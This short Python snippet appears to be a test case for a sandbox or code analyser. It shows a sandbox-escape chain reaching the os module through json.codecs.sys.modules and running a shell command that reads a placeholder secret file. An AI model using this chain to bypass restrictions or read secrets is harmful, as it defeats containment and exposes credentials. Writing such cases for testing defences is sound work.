# json keeps codecs, which keeps sys, which keeps all modules.
# effect: run
import json
json.codecs.sys.modules["os"].system("cat @SECRET@")
